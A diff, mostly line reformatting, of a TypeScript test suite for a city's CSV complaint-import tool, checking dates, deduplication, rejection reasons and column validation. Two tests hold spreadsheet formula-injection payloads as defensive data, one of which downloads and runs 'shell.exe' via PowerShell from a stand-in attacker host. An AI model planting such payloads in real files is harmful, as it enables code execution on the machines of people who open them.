@@ -43,16 +43,30 @@ const filed = () => city.deps.db.case.findMany({ orderBy: { title: 'asc' } })
 
 describe('an import', () => {
   test('files each row with the time it was written, in the city’s zone', async () => {
-    expect(await run(write(csv(...messages(3))))).toMatchObject({ filed: 3, repeated: 0, rejected: 0, isComplete: true })
+    expect(await run(write(csv(...messages(3))))).toMatchObject({
+      filed: 3,
+      repeated: 0,
+      rejected: 0,
+      isComplete: true,
+    })
     const [first] = await filed()
-    expect(first).toMatchObject({ channel: 'import', type: 'complaint', title: '第 0 件', requesterId: null, published: false })
+    expect(first).toMatchObject({
+      channel: 'import',
+      type: 'complaint',
+      title: '第 0 件',
+      requesterId: null,
+      published: false,
+    })
     expect(first?.submittedAt.toISOString()).toBe('2019-02-28T03:25:05.000Z')
   })
 
   test('run a second time adds nothing, also when the file moved or grew', async () => {
     await run(write(csv(...messages(3))))
     expect(await run(write(csv(...messages(3))))).toMatchObject({ filed: 0, repeated: 3 })
-    expect(await run(write(csv(...messages(5)), 'more.csv'), { batch: 'messages.csv' })).toMatchObject({ filed: 2, repeated: 3 })
+    expect(await run(write(csv(...messages(5)), 'more.csv'), { batch: 'messages.csv' })).toMatchObject({
+      filed: 2,
+      repeated: 3,
+    })
     expect(await city.deps.db.case.count()).toBe(5)
   })
 
@@ -77,25 +91,47 @@ describe('an import', () => {
   test('takes a byte order mark, quoted line breaks and other types', async () => {
     const file = write(`\ufeff${csv(['1', '标题', '第一行内容\n第二行内容', '2020-01-02 3:04'])}`)
     expect(await run(file, { type: 'suggestion', publish: true })).toMatchObject({ filed: 1 })
-    expect((await filed())[0]).toMatchObject({ type: 'suggestion', text: '第一行内容\n第二行内容', publishConsent: true })
+    expect((await filed())[0]).toMatchObject({
+      type: 'suggestion',
+      text: '第一行内容\n第二行内容',
+      publishConsent: true,
+    })
   })
 })
 
 describe('a row that cannot be filed', () => {
   test('goes to the rejects file with its reason, and the others are filed', async () => {
-    const rows = [message(1), ['2', '标题', '短', ''], ['3', '标题', '内容足够长了', '昨天'], ['4', '标题', '内容足够长了', '2099/1/1']]
+    const rows = [
+      message(1),
+      ['2', '标题', '短', ''],
+      ['3', '标题', '内容足够长了', '昨天'],
+      ['4', '标题', '内容足够长了', '2099/1/1'],
+    ]
     const result = await run(write(`${csv(...rows)}5,too few cells\n`))
     expect(result).toMatchObject({ filed: 1, rejected: 4, total: 5 })
-    const rejects = parse(readFileSync(result.rejectsFile ?? ''), { columns: true, bom: true }) as Array<Record<string, string>>
+    const rejects = parse(readFileSync(result.rejectsFile ?? ''), { columns: true, bom: true }) as Array<
+      Record<string, string>
+    >
     expect(rejects.map(({ line }) => line)).toEqual(['3', '4', '5', '6'])
-    expect(rejects[0]).toMatchObject({ reason_zh: 'body: 至少 5 个字', reason_en: 'body: At least 5 characters', subject: '标题' })
+    expect(rejects[0]).toMatchObject({
+      reason_zh: 'body: 至少 5 个字',
+      reason_en: 'body: At least 5 characters',
+      subject: '标题',
+    })
     expect(rejects[1]?.reason_zh).toContain('time:')
     expect(rejects[2]?.reason_en).toContain('future')
     expect(rejects[3]?.reason_zh).toContain('应有 4 格')
   })
 
   test('is written so that no spreadsheet runs it as a formula', async () => {
-    const payloads = ['=10+20+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '+1+1', '-2+3', '\t=1', 'DDE ("cmd";"/C calc";"!A0")A0']
+    const payloads = [
+      "=10+20+cmd|' /C calc'!A0",
+      "@SUM(1+9)*cmd|' /C calc'!A0",
+      '+1+1',
+      '-2+3',
+      '\t=1',
+      'DDE ("cmd";"/C calc";"!A0")A0',
+    ]
     const result = await run(write(csv(...payloads.map((payload) => [payload, payload, '短', payload]))))
     expect(result).toMatchObject({ filed: 0, rejected: payloads.length })
     const rows = parse(readFileSync(result.rejectsFile ?? ''), { bom: true }) as string[][]
@@ -103,7 +139,7 @@ describe('a row that cannot be filed', () => {
   })
 
   test('formulas in a good row are kept as the words they are', async () => {
-    const payload = '=cmd|\'/C powershell IEX(wget attacker_server/shell.exe)\'!A0'
+    const payload = "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0"
     await run(write(csv(['1', payload, payload, ''])))
     expect((await filed())[0]).toMatchObject({ title: payload, text: payload })
   })
@@ -131,7 +167,9 @@ describe('a file that is not right is refused before anything is filed', () => {
   })
 
   test('a column that is not there, twice there, or too many of them', async () => {
-    expect(await refusal(write(csv(message(1))), { map: { text: 'words' } })).toContain('it has: no, subject, body, time')
+    expect(await refusal(write(csv(message(1))), { map: { text: 'words' } })).toContain(
+      'it has: no, subject, body, time',
+    )
     expect(await refusal(write('a,b,a\n1,2,3\n'), { map: { text: 'b' } })).toContain('Two columns')
     const wide = Array.from({ length: 101 }, (_, n) => `c${n}`).join(',')
     expect(await refusal(write(`${wide}\n`), { map: { text: 'c1' } })).toContain('more than 100 columns')
